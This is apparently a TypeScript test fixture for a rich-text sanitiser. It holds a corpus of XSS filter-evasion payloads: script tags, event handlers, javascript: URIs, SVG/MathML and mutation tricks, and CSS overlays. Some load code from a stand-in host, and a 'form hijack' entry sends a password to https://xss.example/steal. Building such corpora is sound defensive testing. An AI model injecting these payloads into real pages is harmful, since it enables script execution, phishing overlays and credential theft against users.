/**
 * An XSS corpus: the payloads of OWASP's XSS Filter Evasion Cheat Sheet (written out here, the
 * classic vectors in their many spellings) and more for what a rich-text field meets (SVG and
 * MathML, DOM clobbering, CSS overlays, mutation XSS, template and srcdoc tricks). Every content
 * and footer field is tested with it: on the server through `sanitiseRichHtml`, and in Chromium
 * through a page body, where nothing may run.
 *
 * Each payload calls `alert`, `confirm`, `prompt`, `print` or sets `window.__xss`, so a browser
 * test can listen for dialogs and read the flag.
 */
export type XssPayload = { name: string; payload: string };

export const XSS_CORPUS: readonly XssPayload[] = [
  // Basic script tags
  { name: 'script tag', payload: '<script>alert(1)</script>' },
  { name: 'script with source', payload: '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>' },
  { name: 'script mixed case', payload: '<ScRiPt>window.__xss=1</sCrIpT>' },
  { name: 'script with attributes noise', payload: '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>' },
  { name: 'script slash no space', payload: '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>' },
  { name: 'extra open bracket', payload: '<<SCRIPT>alert("XSS");//<</SCRIPT>' },
  { name: 'no closing script tag', payload: '<SCRIPT SRC=https://xss.example/xss.js?< B >' },
  { name: 'half open script', payload: '<SCRIPT SRC=//xss.example/.j>' },
  { name: 'double open angle', payload: '<iframe src=https://xss.example/scriptlet.html <' },
  { name: 'end title tag', payload: '</TITLE><SCRIPT>alert("XSS");</SCRIPT>' },
  { name: 'end textarea', payload: '</textarea><script>alert(1)</script>' },
  { name: 'end style', payload: '</style><script>alert(1)</script>' },
  { name: 'script in attribute breakout', payload: '"><script>alert(1)</script>' },
  { name: 'single quote breakout', payload: "'><script>alert(1)</script>" },
  { name: 'script with escaped js', payload: '<SCRIPT>var a="\\\\";alert(\'XSS\');//";</SCRIPT>' },
  { name: 'script type module', payload: '<script type="module">window.__xss=1</script>' },
  { name: 'nested script split', payload: '<scr<script>ipt>alert(1)</scr</script>ipt>' },
  { name: 'script inside comment trick', payload: '<!--<script>-->alert(1)<!--</script>-->' },
  { name: 'conditional comment', payload: "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->" },
  { name: 'cdata', payload: '<![CDATA[<script>alert(1)</script>]]>' },

  // Image and event handlers
  { name: 'img javascript src', payload: '<IMG SRC="javascript:alert(\'XSS\');">' },
  { name: 'img no quotes no semicolon', payload: "<IMG SRC=javascript:alert('XSS')>" },
  { name: 'img case insensitive', payload: "<IMG SRC=JaVaScRiPt:alert('XSS')>" },
  { name: 'img html entities', payload: '<IMG SRC=javascript:alert(&quot;XSS&quot;)>' },
  { name: 'img grave accent', payload: '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>' },
  { name: 'malformed a tag', payload: '<a onmouseover="alert(document.cookie)">xxs link</a>' },
  { name: 'malformed a no quotes', payload: '<a onmouseover=alert(document.cookie)>xxs link</a>' },
  { name: 'malformed img', payload: '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>' },
  { name: 'fromCharCode', payload: '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>' },
  { name: 'default src onerror', payload: '<IMG SRC=# onmouseover="alert(\'xxs\')">' },
  { name: 'empty src onerror', payload: '<IMG SRC= onmouseover="alert(\'xxs\')">' },
  { name: 'no src onerror', payload: '<IMG onmouseover="alert(\'xxs\')">' },
  { name: 'img onerror', payload: '<img src=x onerror=alert(1)>' },
  { name: 'img onerror encoded', payload: '<img src=/ onerror="alert(String.fromCharCode(88,83,83))"></img>' },
  { name: 'img onerror no space', payload: '<img/src=x/onerror=alert(1)>' },
  { name: 'img onerror tab', payload: '<img src=x\tonerror=alert(1)>' },
  { name: 'img onerror newline', payload: '<img src=x\nonerror=alert(1)>' },
  { name: 'img onerror slash', payload: '<img src="x"/onerror="window.__xss=1">' },
  { name: 'img onerror entity handler', payload: '<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>' },
  {
    name: 'decimal entities',
    payload:
      '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  },
  {
    name: 'decimal entities no semicolons',
    payload:
      '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  },
  {
    name: 'hex entities no semicolons',
    payload:
      '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  },
  { name: 'embedded tab', payload: '<IMG SRC="jav\tascript:alert(\'XSS\');">' },
  { name: 'embedded encoded tab', payload: '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">' },
  { name: 'embedded newline', payload: '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">' },
  { name: 'embedded carriage return', payload: '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">' },
  { name: 'null byte', payload: '<IMG SRC=java\u0000script:alert("XSS")>' },
  { name: 'spaces and meta before javascript', payload: '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">' },
  { name: 'non alpha non digit', payload: '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>' },
  { name: 'body onload odd characters', payload: '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>' },
  { name: 'img dynsrc', payload: '<IMG DYNSRC="javascript:alert(\'XSS\')">' },
  { name: 'img lowsrc', payload: '<IMG LOWSRC="javascript:alert(\'XSS\')">' },
  { name: 'img srcset', payload: '<img srcset="javascript:alert(1) 1x" src="/x.png">' },
  { name: 'img vbscript', payload: '<IMG SRC=\'vbscript:msgbox("XSS")\'>' },
  { name: 'img livescript', payload: '<IMG SRC="livescript:[code]">' },
  { name: 'img style expression', payload: '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">' },
  { name: 'img data uri svg', payload: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+">' },
  { name: 'img src with javascript after spaces', payload: '<img src="   javascript:alert(1)">' },

  // Links
  { name: 'a javascript href', payload: '<a href="javascript:alert(1)">click</a>' },
  { name: 'a javascript mixed case', payload: '<a href="JaVaScRiPt:window.__xss=1">click</a>' },
  { name: 'a javascript entities', payload: '<a href="&#106;avascript:alert(1)">click</a>' },
  { name: 'a javascript colon entity', payload: '<a href="javascript&colon;alert(1)">click</a>' },
  { name: 'a javascript tab entity', payload: '<a href="java&Tab;script:alert(1)">click</a>' },
  { name: 'a javascript newline entity', payload: '<a href="java&NewLine;script:alert(1)">click</a>' },
  { name: 'a javascript leading space', payload: '<a href=" javascript:alert(1)">click</a>' },
  { name: 'a javascript leading control', payload: '<a href="\u0001javascript:alert(1)">click</a>' },
  { name: 'a javascript url encoded', payload: '<a href="javascript:%61lert(1)">click</a>' },
  { name: 'a javascript comment', payload: '<a href="javascript://%0aalert(1)">click</a>' },
  { name: 'a vbscript', payload: '<a href="vbscript:msgbox(1)">click</a>' },
  { name: 'a data html', payload: '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>' },
  { name: 'a data html plain', payload: '<a href="data:text/html,<script>alert(1)</script>">click</a>' },
  { name: 'a protocol relative', payload: '<a href="//xss.example/">click</a>' },
  { name: 'a backslash host', payload: '<a href="/\\xss.example/">click</a>' },
  { name: 'a onclick', payload: '<a href="/legal" onclick="window.__xss=1">click</a>' },
  { name: 'a onfocus autofocus', payload: '<a href="/legal" autofocus onfocus="alert(1)">x</a>' },
  { name: 'a target opener', payload: '<a href="https://xss.example/" target="_top">x</a>' },
  { name: 'a formaction', payload: '<a href="/legal" formaction="javascript:alert(1)">x</a>' },
  { name: 'a xlink', payload: '<a xlink:href="javascript:alert(1)">x</a>' },
  { name: 'a ping', payload: '<a href="/legal" ping="https://xss.example/track">x</a>' },

  // SVG and MathML
  { name: 'svg onload', payload: '<svg onload=alert(1)>' },
  { name: 'svg slash onload', payload: "<svg/onload=alert('XSS')>" },
  { name: 'svg script', payload: '<svg><script>alert(1)</script></svg>' },
  { name: 'svg animate', payload: '<svg><animate onbegin=alert(1) attributeName=x dur=1s>' },
  {
    name: 'svg set href',
    payload: '<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>',
  },
  { name: 'svg use data', payload: '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>' },
  {
    name: 'svg foreignObject',
    payload: '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  },
  {
    name: 'math href',
    payload: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  },
  { name: 'math mglyph style', payload: '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>' },
  { name: 'mutation noscript', payload: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: 'mutation svg style', payload: '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">' },
  {
    name: 'mutation form nesting',
    payload: '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  },

  // Embedded content
  { name: 'iframe javascript', payload: '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>' },
  { name: 'iframe event', payload: '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>' },
  { name: 'iframe srcdoc', payload: '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>' },
  { name: 'iframe data', payload: '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>' },
  { name: 'frameset', payload: '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>' },
  {
    name: 'object data',
    payload: '<OBJECT TYPE="text/x-scriptlet" DATA="https://xss.example/scriptlet.html"></OBJECT>',
  },
  { name: 'object javascript', payload: '<object data="javascript:alert(1)">' },
  {
    name: 'embed svg',
    payload:
      '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  },
  { name: 'embed flash', payload: '<EMBED SRC="https://xss.example/xss.swf" AllowScriptAccess="always"></EMBED>' },
  { name: 'applet', payload: '<applet code="javascript:alert(1)"></applet>' },
  { name: 'video onerror', payload: '<video><source onerror="alert(1)"></video>' },
  { name: 'audio onerror', payload: '<audio src=x onerror=alert(1)>' },
  { name: 'portal', payload: '<portal src="javascript:alert(1)"></portal>' },

  // Document-level tags
  { name: 'meta refresh', payload: '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">' },
  {
    name: 'meta refresh data',
    payload:
      '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  },
  {
    name: 'meta refresh url param',
    payload: '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:alert(\'XSS\');">',
  },
  { name: 'meta csp override', payload: '<meta http-equiv="Content-Security-Policy" content="script-src *">' },
  { name: 'base href', payload: '<BASE HREF="javascript:alert(\'XSS\');//">' },
  { name: 'base href host', payload: '<base href="https://xss.example/">' },
  { name: 'link stylesheet', payload: '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">' },
  { name: 'link import', payload: '<link rel="import" href="https://xss.example/x.html">' },
  { name: 'body onload', payload: "<BODY ONLOAD=alert('XSS')>" },
  { name: 'body background', payload: '<BODY BACKGROUND="javascript:alert(\'XSS\')">' },
  {
    name: 'html xmlns',
    payload:
      '<HTML xmlns:xss><?import namespace="xss" implementation="https://xss.example/xss.htc"><xss:xss>XSS</xss:xss></HTML>',
  },
  {
    name: 'xml data island',
    payload: '<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:alert(\'XSS\')"></B></I></XML>',
  },
  { name: 'template', payload: '<template><img src=x onerror=alert(1)></template>' },

  // Forms
  { name: 'form action', payload: '<form action="javascript:alert(1)"><button>go</button></form>' },
  { name: 'button formaction', payload: '<form><button formaction="javascript:alert(1)">go</button></form>' },
  { name: 'input onfocus autofocus', payload: '<input onfocus=alert(1) autofocus>' },
  { name: 'input image', payload: '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">' },
  { name: 'select onfocus', payload: '<select onfocus=alert(1) autofocus>' },
  { name: 'textarea onfocus', payload: '<textarea onfocus=alert(1) autofocus>' },
  { name: 'keygen', payload: '<keygen autofocus onfocus=alert(1)>' },
  { name: 'details ontoggle', payload: '<details open ontoggle=alert(1)>' },
  { name: 'marquee onstart', payload: '<marquee onstart=alert(1)>x</marquee>' },
  {
    name: 'form hijack',
    payload: '<form id="login" action="https://xss.example/steal"><input name="password"></form>',
  },

  // Styles
  { name: 'style tag', payload: '<style>body{display:none}</style>' },
  { name: 'style tag import', payload: "<STYLE>@import'https://xss.example/xss.css';</STYLE>" },
  {
    name: 'style tag behaviour',
    payload: '<STYLE>BODY{-moz-binding:url("https://xss.example/xssmoz.xml#xss")}</STYLE>',
  },
  {
    name: 'style tag expression',
    payload: '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  },
  { name: 'style attribute expression', payload: '<DIV STYLE="width: expression(alert(\'XSS\'));">' },
  { name: 'style attribute expression escaped', payload: '<div style="width:e\\xpression(alert(1))">x</div>' },
  { name: 'style attribute url javascript', payload: '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">' },
  {
    name: 'style attribute url unicode',
    payload:
      '<DIV STYLE="background-image:\\0075\\0072\\006C\\0028\'\\006a\\0061\\0076\\0061\\0073\\0063\\0072\\0069\\0070\\0074\\003a\\0061\\006c\\0065\\0072\\0074\\0028.1027\\0058.1053\\0053\\0027\\0029\'\\0029">',
  },
  { name: 'style attribute comment', payload: '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">' },
  { name: 'style behaviour', payload: '<p style="behavior: url(xss.htc)">x</p>' },
  { name: 'style moz binding', payload: '<p style="-moz-binding: url(https://xss.example/x.xml#xss)">x</p>' },
  {
    name: 'style overlay',
    payload:
      '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:white">Sign in again</div>',
  },
  {
    name: 'style overlay via background shorthand',
    payload: '<div style="background:url(https://xss.example/track.png)">x</div>',
  },
  { name: 'style transform', payload: '<div style="transform:translateY(-500px)">x</div>' },
  { name: 'style negative margin', payload: '<div style="margin-top:-9999px">x</div>' },
  { name: 'style colour smuggling', payload: '<p style="color: red; x: expression(alert(1))">x</p>' },
  { name: 'style colour url', payload: '<p style="color: url(javascript:alert(1))">x</p>' },
  { name: 'style colour semicolon smuggle', payload: '<p style="color: red;position:fixed">x</p>' },
  { name: 'style var', payload: '<p style="color: var(--x)">x</p>' },
  { name: 'style important overlay', payload: '<p style="position:absolute !important; inset:0">x</p>' },
  { name: 'style attribute entity', payload: '<p style="position&#58;fixed">x</p>' },
  { name: 'app utility class overlay', payload: '<div class="fixed inset-0 z-50 bg-background">Sign in again</div>' },

  // Tables and legacy
  { name: 'table background', payload: '<TABLE BACKGROUND="javascript:alert(\'XSS\')">' },
  { name: 'td background', payload: '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">' },
  { name: 'font onmouseover', payload: '<font color="red" onmouseover="alert(1)">x</font>' },
  { name: 'center onclick', payload: '<center onclick="alert(1)">x</center>' },
  { name: 'bgsound', payload: '<BGSOUND SRC="javascript:alert(\'XSS\');">' },
  { name: 'layer', payload: '<LAYER SRC="https://xss.example/scriptlet.html"></LAYER>' },
  { name: 'div background', payload: '<DIV BACKGROUND="javascript:alert(1)">x</DIV>' },

  // Attributes and clobbering
  { name: 'data attribute', payload: '<div data-bind="alert(1)" data-x="1">x</div>' },
  { name: 'dom clobbering id', payload: '<img id="__xss" src="/x.png"><a id="defaultView" href="/x">x</a>' },
  { name: 'dom clobbering name', payload: '<form name="cookie"><img name="getElementById"></form>' },
  { name: 'popover onbeforetoggle', payload: '<div popover id="p" onbeforetoggle="alert(1)">x</div>' },
  { name: 'contenteditable onfocus', payload: '<div contenteditable autofocus onfocus="alert(1)">x</div>' },
  { name: 'tabindex onfocus', payload: '<div tabindex="1" onfocus="alert(1)" autofocus>x</div>' },
  { name: 'onanimationstart', payload: '<p style="animation-name:x" onanimationstart="alert(1)">x</p>' },
  { name: 'unknown handler', payload: '<p onpointerrawupdate="alert(1)">x</p>' },
  { name: 'handler uppercase', payload: '<p ONCLICK="alert(1)">x</p>' },
  { name: 'handler after slash', payload: '<p/onclick="alert(1)">x</p>' },
  { name: 'quoted attribute breakout', payload: '<p title="x" onclick="alert(1)" ">x</p>' },
  { name: 'attribute without quotes breakout', payload: '<p title=x/onclick=alert(1)>x</p>' },
  { name: 'title breakout', payload: '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</p>' },

  // Encodings and parser confusion
  { name: 'utf7', payload: '+ADw-script+AD4-alert(1)+ADw-/script+AD4-' },
  { name: 'unclosed tags', payload: '<p><b><i><u>unclosed <img src=x onerror=alert(1)' },
  { name: 'unclosed attribute', payload: '<img src="x onerror=alert(1)//' },
  { name: 'nested quotes', payload: '<img src="x` `<script>alert(1)</script>"` `>' },
  { name: 'comment breakout', payload: '<!-- --!><script>alert(1)</script> -->' },
  { name: 'bogus comment', payload: '<? foo="><script>alert(1)</script>">' },
  { name: 'processing instruction', payload: '<?xml-stylesheet type="text/xsl" href="javascript:alert(1)"?>' },
  { name: 'doctype', payload: '<!DOCTYPE html><script>alert(1)</script>' },
  { name: 'deep nesting', payload: `${'<div>'.repeat(200)}<img src=x onerror=alert(1)>${'</div>'.repeat(200)}` },
  { name: 'plaintext', payload: '<plaintext><script>alert(1)</script>' },
  { name: 'xmp', payload: '<xmp><script>alert(1)</script></xmp>' },
  { name: 'noembed', payload: '<noembed><img src=x onerror=alert(1)></noembed>' },
  { name: 'textarea rcdata', payload: '<textarea><img src=x onerror=alert(1)></textarea>' },
  { name: 'title rcdata', payload: '<title><img src=x onerror=alert(1)></title>' },
  { name: 'javascript in text', payload: '<p>javascript:alert(1)</p>' },
  { name: 'angular template', payload: "<div ng-app>{{constructor.constructor('alert(1)')()}}</div>" },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal text
  { name: 'template literal text', payload: '<p>${alert(1)}</p>' },
  { name: 'footer year placeholder', payload: '<p>© {{year}} <img src=x onerror=alert(1)></p>' },
];

/** Just the payloads, for tests that only need the strings. */
export const XSS_PAYLOADS: readonly string[] = XSS_CORPUS.map((entry) => entry.payload);
